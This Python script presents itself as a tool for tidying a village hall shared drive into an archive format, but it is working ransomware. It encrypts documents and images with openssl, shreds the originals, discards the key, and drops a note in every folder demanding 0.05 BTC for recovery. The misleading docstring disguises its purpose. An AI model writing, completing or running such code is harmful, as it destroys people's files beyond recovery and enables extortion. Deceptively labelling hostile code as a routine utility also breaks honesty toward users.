#!/usr/bin/env python3
"""Tidy the village hall shared drive into the archive format.

Walks the shared folder, converts each document into the archive container
with openssl, and leaves a note explaining how to get files back.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archive_tidy")

EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".odt", ".ods", ".pdf",
              ".csv", ".jpg", ".jpeg", ".png", ".txt", ".pptx"}
SUFFIX = ".hallarc"
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTE_TEXT = """All documents in this folder have been locked.
To receive the key, email restore@example.com with the ID below
and pay 0.05 BTC within 72 hours. After that the key is destroyed.

ID: {ident}
"""


class Walker:
    def __init__(self, root: Path, limit: int):
        self.root = root
        self.limit = limit

    def targets(self):
        found = []
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                    found.append(path)
                    if self.limit and len(found) >= self.limit:
                        return found
        return found


def write_script(files):
    fd, path = tempfile.mkstemp(prefix="tidy_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write("#!/bin/bash\n")
        fh.write('while IFS= read -r f; do\n')
        fh.write('  openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARC_KEY '
                 f'-in "$f" -out "$f{SUFFIX}" 2>/dev/null || continue\n')
        fh.write('  shred -u "$f" 2>/dev/null || rm -f "$f"\n')
        fh.write('  echo "$f"\n')
        fh.write("done\n")
    listing = path + ".lst"
    with open(listing, "w") as fh:
        fh.write("\n".join(str(f) for f in files) + "\n")
    return path, listing


def drop_notes(root: Path, ident: str):
    dirs = {root}
    for dirpath, _, _ in os.walk(root):
        dirs.add(Path(dirpath))
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))
        except OSError as exc:
            LOG.debug("no note in %s: %s", d, exc)


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("root", nargs="?", default=str(Path.home() / "HallShare"))
    p.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    root = Path(args.root).expanduser()
    if not root.is_dir():
        LOG.error("%s is not a folder", root)
        return 1
    files = Walker(root, args.limit).targets()
    if not files:
        LOG.info("nothing to tidy")
        return 0
    key = secrets.token_hex(32)
    ident = secrets.token_hex(6)
    script, listing = write_script(files)
    env = dict(os.environ, ARC_KEY=key)
    with open(listing) as stdin:
        proc = subprocess.run(["bash", script], stdin=stdin, env=env,
                              capture_output=True, text=True)
    done = [ln for ln in proc.stdout.splitlines() if ln]
    LOG.info("converted %d of %d files", len(done), len(files))
    for tmp in (script, listing):
        try:
            os.unlink(tmp)
        except OSError:
            pass
    del key
    drop_notes(root, ident)
    return 0 if done else 1


if __name__ == "__main__":
    sys.exit(main())
